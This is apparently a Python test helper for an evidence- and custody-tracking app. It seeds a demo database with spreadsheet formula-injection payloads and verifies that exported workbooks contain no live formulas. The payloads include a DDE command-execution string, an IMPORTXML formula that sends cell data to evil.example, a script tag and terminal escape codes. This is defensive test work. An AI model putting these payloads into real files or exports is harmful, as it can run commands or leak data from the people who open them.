"""What the adversarial suites share: formula payloads, a poisoned demo file, read-back checks."""

from __future__ import annotations

import re
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

from openpyxl import load_workbook

# Text that a spreadsheet program would run, or that would act on a terminal.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=1+1\x07\x1b[2J\x00",
    "SMITH, [John] [bold]x[/bold]",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "[click](http://evil.example) <script>alert(1)</script> ![x](http://evil.example/p.png)",
)
LONG_PAYLOAD = "=" + "A" * 40_000  # longer than a cell holds, and formula-like

# Free-text columns of the demo file, poisoned with the payloads (one per row, in turn).
POISONED_COLUMNS = {
    "agenda_item": ("title", "detail", "note", "drop_reason"),
    "attendance": ("name", "role", "organisation"),
    "charge_papers": ("crime_ref", "urn", "charges", "court", "received_from", "notes"),
    "clinic": ("title", "location", "notes"),
    "clinic_action": ("text", "owner_name", "owner_org", "status_reason"),
    "exhibit": (
        "description",
        "system",
        "officer",
        "where_found",
        "seized_by",
        "hold_reason",
        "seal_number",
        "storage_location",
        "holder",
    ),
    "exhibit_event": ("from_name", "to_name", "reason", "location", "note", "witness"),
    "person_of_interest": ("ocg_name", "reason", "notes"),
    "prisoner": ("name", "pnc", "location"),
    "referral": (
        "location",
        "description",
        "crime_ref",
        "oic_name",
        "oic_collar",
        "oic_phone",
        "oic_email",
        "adjudication_charge",
        "notes",
        "next_step",
        "status_reason",
        "outcome_detail",
    ),
    "referral_party": ("name",),
    "service_event": ("served_by", "witnessed_by", "note"),
    "status_change": ("reason",),
    "follow_up": ("note",),
}


def poison(db: Path) -> None:
    """Put the payloads in every free-text column of ``db`` (as a hostile import would)."""
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("DROP TRIGGER IF EXISTS exhibit_event_no_update")
        for table, columns in POISONED_COLUMNS.items():
            present = {row[1] for row in conn.execute(f"PRAGMA table_info('{table}')")}
            for column in columns:
                if column not in present:
                    continue
                for index, payload in enumerate(PAYLOADS):
                    conn.execute(
                        f"UPDATE {table} SET {column} = ? WHERE rowid % ? = ?",
                        (payload, len(PAYLOADS), index),
                    )
        first = conn.execute("SELECT min(id) FROM referral").fetchone()[0]
        conn.execute("UPDATE referral SET description = ? WHERE id = ?", (LONG_PAYLOAD, first))
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # the file alone carries the poison
    conn.close()


_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def cells(path: Path) -> Iterator[tuple[str, str, object, str, bool]]:
    """(sheet, coordinate, value, data type, quote prefix) of every cell of a workbook."""
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                yield ws.title, cell.coordinate, cell.value, cell.data_type, bool(cell.quotePrefix)


def assert_no_live_formulas(path: Path) -> list[str]:
    """No formula anywhere (cells read back, and no <f> element in any sheet's XML); no
    character a workbook cannot hold. Returns every text value, for further checks."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not _FORMULA_ELEMENT.search(archive.read(name)), f"{path.name}: {name}"
    texts = []
    for sheet, coordinate, value, data_type, quoted in cells(path):
        assert data_type != "f", f"{path.name} {sheet}!{coordinate} is a formula: {value!r}"
        if isinstance(value, str):
            assert not _UNWRITABLE.search(value), f"{path.name} {sheet}!{coordinate}"
            if value.startswith(("=", "+", "-", "@")):
                assert quoted, f"{path.name} {sheet}!{coordinate} lacks the quote prefix"
            texts.append(value)
    return texts
